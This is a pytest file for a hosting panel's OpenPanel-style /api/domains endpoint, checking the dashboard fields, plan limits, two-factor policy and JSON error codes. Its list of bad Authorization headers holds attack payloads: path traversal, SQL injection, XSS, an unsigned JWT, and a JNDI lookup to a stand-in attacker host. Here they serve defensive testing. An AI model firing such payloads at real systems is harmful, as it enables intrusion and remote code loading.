"""OpenPanel's `POST /api/domains` (and GET), sent exactly as its API document shows: the dashboard object with
every key of the reference example (domains_example.json, copied from the document), typed as there, filled
from real data; errors as `{"error": ...}` with the documented status codes, never a stack trace."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from hostplane.activity.log import Actor
from hostplane.panel.service import PanelSettingsService
from hostplane.plans.service import PlanService
from hostplane.runtime import Runtime
from hostplane.settings import Settings
from tests.conftest import PASSWORD, PEER, Account, Api
from tests.dialects.openpanel.test_login import enable_two_factor

REFERENCE: dict[str, Any] = json.loads((Path(__file__).parent / "domains_example.json").read_text())
DOMAINS = "/api/domains"
NULLABLE = {"custom_message": str, "twofa_enabled": bool}
"""Keys the reference shows as null: ours are null or (when set) of this type."""


@pytest.fixture
def settings(settings_factory: Callable[..., Settings]) -> Settings:
    return settings_factory(
        openpanel_ip_address="192.0.2.10", openpanel_nameservers=["ns1.example.net", "ns2.example.net"]
    )


def assert_typed_like(value: Any, reference: Any, path: str) -> None:
    """`value` has the reference's type, recursively: same keys in objects, same element types in lists."""
    if reference is None:
        expected = NULLABLE[path]
        assert value is None or isinstance(value, expected), f"{path}: {value!r}"
        return
    assert type(value) is type(reference), f"{path}: {type(value).__name__} != {type(reference).__name__}"
    if isinstance(reference, dict):
        assert set(value) == set(reference), f"{path}: keys {sorted(value)} != {sorted(reference)}"
        for key in reference:
            assert_typed_like(value[key], reference[key], f"{path}.{key}" if path else key)
    elif isinstance(reference, list) and reference:
        for item in value:
            assert_typed_like(item, reference[0], f"{path}[]")


async def login(api: Api, account: Account) -> str:
    """OpenPanel's own login, as its document shows."""
    response = await api.post(
        "/api/login",
        headers={"Content-Type": "application/json", "Accept": "application/json"},
        json={"username": account.username, "password": account.password},
    )
    assert response.status_code == 200, response.text
    token: str = response.json()["token"]
    return token


async def dashboard(api: Api, token: str, method: str = "POST") -> dict[str, Any]:
    """`curl -X POST https://OPENPANEL:2083/api/domains -H "Authorization: Bearer JWT_TOKEN_HERE"`."""
    response = await api.request(method, DOMAINS, headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/json"
    body: dict[str, Any] = response.json()
    return body


async def test_the_dashboard_has_every_key_of_the_reference_typed_as_there(user_api: Api, alice: Account) -> None:
    token = await login(user_api, alice)
    created = await user_api.post("/api/v1/domains", json={"name": "pcx3.com"}, token=token)
    assert created.status_code == 201
    sub = await user_api.post(f"/api/v1/domains/{created.json()['id']}/subdomains", json={"name": "blog"}, token=token)
    assert sub.status_code == 201
    body = await dashboard(user_api, token)
    assert set(body) == set(REFERENCE)
    assert_typed_like(body, REFERENCE, "")
    assert body["subdomains"] and all(set(item) == set(REFERENCE["domains"][0]) for item in body["subdomains"])
    for item in body["user_websites"]:
        assert len(item) == 2 and all(isinstance(part, str) for part in item)


async def test_get_answers_the_same_dashboard_as_post(user_api: Api, alice: Account) -> None:
    token = await login(user_api, alice)
    assert await dashboard(user_api, token, "GET") == await dashboard(user_api, token, "POST")


async def test_the_dashboard_shows_the_users_own_domains_subdomains_and_websites(
    user_api: Api, alice: Account, make_account: Callable[..., Any]
) -> None:
    bob = await make_account("bob")
    await user_api.login(bob)
    await user_api.post("/api/v1/domains", json={"name": "bob.example"})
    token = await login(user_api, alice)
    main = (await user_api.post("/api/v1/domains", json={"name": "example.co.uk"}, token=token)).json()
    sub = (await user_api.post(f"/api/v1/domains/{main['id']}/subdomains", json={"name": "shop"}, token=token)).json()
    body = await dashboard(user_api, token)
    assert body["domains"] == [
        {"docroot": main["docroot"], "domain_id": main["id"], "domain_url": "example.co.uk"},
        {"docroot": sub["docroot"], "domain_id": sub["id"], "domain_url": "shop.example.co.uk"},
    ]
    assert body["maindomains"] == [{"domain_url": "example.co.uk", "tld": "uk"}]
    assert body["subdomains"] == [
        {"docroot": sub["docroot"], "domain_id": sub["id"], "domain_url": "shop.example.co.uk"}
    ]
    assert body["user_websites"] == [["example.co.uk", "Static"], ["shop.example.co.uk", "Static"]]


async def test_limits_usage_and_features_come_from_the_plan_and_what_exists(
    user_api: Api, alice: Account, runtime: Runtime
) -> None:
    service = PlanService(runtime)
    plan = await service.create(
        Actor(None, "test"), name="web", max_domains=3, max_websites=7, max_mailboxes=9, features=["emails", "dns"]
    )
    await service.assign(Actor(None, "test"), alice.user.id, plan.plan.id)
    token = await login(user_api, alice)
    mail = (await user_api.post("/api/v1/mail/domains", json={"name": "example.org"}, token=token)).json()
    for local in ("info", "sales"):
        response = await user_api.post(
            f"/api/v1/mail/domains/{mail['id']}/mailboxes",
            json={"local_part": local, "password": PASSWORD, "quota_mb": 10},
            token=token,
        )
        assert response.status_code == 201, response.text
    body = await dashboard(user_api, token)
    assert (body["domains_limit"], body["websites_limit"], body["email_limit"]) == (3, 7, 9)
    assert body["email_count"] == 2
    assert body["user_features"] == ["emails", "dns"]


async def test_without_a_plan_limits_are_0_unlimited_and_every_feature_is_there(user_api: Api, alice: Account) -> None:
    body = await dashboard(user_api, await login(user_api, alice))
    assert (body["domains_limit"], body["websites_limit"], body["email_limit"]) == (0, 0, 0)
    assert set(REFERENCE["user_features"]) <= set(body["user_features"])


async def test_server_address_and_name_servers_come_from_the_settings(user_api: Api, alice: Account) -> None:
    body = await dashboard(user_api, await login(user_api, alice))
    assert body["ip_address"] == "192.0.2.10"
    assert [body[f"ns{n}"] for n in range(1, 5)] == ["ns1.example.net", "ns2.example.net", "", ""]


async def test_last_ip_is_the_address_of_the_last_login_and_locale_the_users_language(
    user_api: Api, alice: Account
) -> None:
    await user_api.from_peer("198.51.100.23").login(alice)
    token = await login(user_api, alice)
    changed = await user_api.patch("/api/v1/account", json={"language": "de"}, token=token)
    assert changed.status_code == 200, changed.text
    body = await dashboard(user_api, token)
    assert body["last_ip"] == PEER
    assert body["locale"] == "de"


async def test_twofa_enabled_is_null_while_off_and_true_once_on(user_api: Api, alice: Account) -> None:
    before = await dashboard(user_api, await login(user_api, alice))
    assert (before["twofa_enabled"], before["twofa_nag"]) == (None, "False")
    await enable_two_factor(user_api, alice)
    after = await dashboard(user_api, user_api.token or "")
    assert after["twofa_enabled"] is True


async def test_under_the_two_factor_policy_an_account_without_it_is_nagged_or_refused(
    user_api: Api, alice: Account, runtime: Runtime
) -> None:
    token = await login(user_api, alice)
    key = await user_api.post("/api/v1/account/api-keys", json={"description": "billing"}, token=token)
    assert key.status_code == 201, key.text
    await PanelSettingsService(runtime).set_two_factor_policy(Actor(None, "test"), True)
    session = await user_api.post(DOMAINS, headers={"Authorization": f"Bearer {token}"})
    assert session.status_code == 403
    assert set(session.json()) == {"error"}
    body = await dashboard(user_api, key.json()["token"])  # API keys are not held to the policy
    assert body["twofa_nag"] == "True"


# --- errors ----------------------------------------------------------------------------------------------------


def assert_error(response: Any, status: int) -> None:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/json"
    body = response.json()
    assert set(body) == {"error"} and isinstance(body["error"], str) and body["error"]
    assert "Traceback" not in response.text


@pytest.mark.parametrize("method", ["POST", "GET"])
async def test_without_a_token_the_answer_is_401_error(user_api: Api, method: str) -> None:
    assert_error(await user_api.request(method, DOMAINS), 401)


async def test_a_logged_out_token_is_401_error(user_api: Api, alice: Account) -> None:
    token = await login(user_api, alice)
    assert (await user_api.post("/api/v1/auth/logout", token=token)).status_code in (200, 204)
    assert_error(await user_api.post(DOMAINS, headers={"Authorization": f"Bearer {token}"}), 401)


async def test_an_api_key_used_from_a_disallowed_address_is_403_error(user_api: Api, alice: Account) -> None:
    token = await login(user_api, alice)
    key = await user_api.post(
        "/api/v1/account/api-keys", json={"description": "x", "allowed_ips": ["192.0.2.0/24"]}, token=token
    )
    assert key.status_code == 201, key.text
    assert_error(await user_api.post(DOMAINS, headers={"Authorization": f"Bearer {key.json()['token']}"}), 403)


async def test_an_api_key_without_a_domains_scope_is_403_error(user_api: Api, alice: Account) -> None:
    token = await login(user_api, alice)
    key = await user_api.post(
        "/api/v1/account/api-keys", json={"description": "x", "scopes": ["account:read"]}, token=token
    )
    assert key.status_code == 201, key.text
    assert_error(await user_api.post(DOMAINS, headers={"Authorization": f"Bearer {key.json()['token']}"}), 403)


@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE"])
async def test_other_methods_are_405_error_and_still_need_a_token(user_api: Api, alice: Account, method: str) -> None:
    assert_error(await user_api.request(method, DOMAINS), 401)
    token = await login(user_api, alice)
    response = await user_api.request(method, DOMAINS, headers={"Authorization": f"Bearer {token}"})
    assert_error(response, 405)


BAD_AUTHORIZATION = [
    "",
    "Bearer",
    "Bearer ",
    "Bearer    ",
    "Basic YWxpY2U6cGFzc3dvcmQ=",
    "bearer-but-not " + "x" * 10,
    "Bearer not-a-jwt",
    "Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiIxIn0.",
    "Bearer ../../../../etc/passwd",
    "Bearer ' OR '1'='1' --",
    "Bearer <script>alert(1)</script>",
    "Bearer ${jndi:ldap://evil.test/a}",
    "Bearer hp_" + "0" * 48,
    "Bearer hp_",
    "Bearer " + "A" * 8000,
    "Bearer %00%0d%0a",
    "Bearer a b c",
]


@pytest.mark.parametrize("authorization", BAD_AUTHORIZATION)
async def test_bad_credentials_get_401_error_never_a_stack_trace(user_api: Api, authorization: str) -> None:
    assert_error(await user_api.post(DOMAINS, headers={"Authorization": authorization}), 401)


async def test_a_non_ascii_credential_gets_401_error(user_api: Api) -> None:
    response = await user_api.http.post(DOMAINS, headers=[(b"Authorization", "Bearer ünï\u00ff".encode("latin-1"))])
    assert_error(response, 401)


@pytest.mark.parametrize(
    "body",
    [b"{not json", b"\x00\xff\xfe", json.dumps({"domain": "../../etc"}).encode(), b"a" * 10000, b"[]"],
)
async def test_a_request_body_is_ignored_and_never_breaks_the_call(user_api: Api, alice: Account, body: bytes) -> None:
    token = await login(user_api, alice)
    response = await user_api.post(
        DOMAINS, content=body, headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    )
    assert response.status_code == 200
    assert set(response.json()) == set(REFERENCE)


async def test_a_domain_an_admin_moved_is_on_the_new_owners_dashboard_only(
    user_api: Api, admin_api: Api, alice: Account, admin: Account, make_account: Callable[..., Any]
) -> None:
    """OpenPanel adds no domains; what it shows follows the one owner of each name, also after a move."""
    bob = await make_account("bob")
    alices = await login(user_api, alice)
    main = (await user_api.post("/api/v1/domains", json={"name": "example.co.uk"}, token=alices)).json()
    await user_api.post(f"/api/v1/domains/{main['id']}/subdomains", json={"name": "shop"}, token=alices)
    bobs = await login(user_api, bob)
    taken = await user_api.post("/api/v1/domains", json={"name": "www.example.co.uk"}, token=bobs)
    assert (taken.status_code, taken.json()["detail"]) == (409, "This domain name is not available.")
    assert (await dashboard(user_api, bobs))["domains"] == []
    await admin_api.login(admin)
    moved = await admin_api.post(f"/api/v1/admin/domains/{main['id']}/move", json={"user_id": bob.user.id})
    assert moved.status_code == 200, moved.text
    assert (await dashboard(user_api, alices))["domains"] == []
    shown = await dashboard(user_api, bobs)
    assert [item["domain_url"] for item in shown["domains"]] == ["example.co.uk", "shop.example.co.uk"]
    assert all("/bob/" in item["docroot"] for item in shown["domains"])
    assert shown["maindomains"] == [{"domain_url": "example.co.uk", "tld": "uk"}]
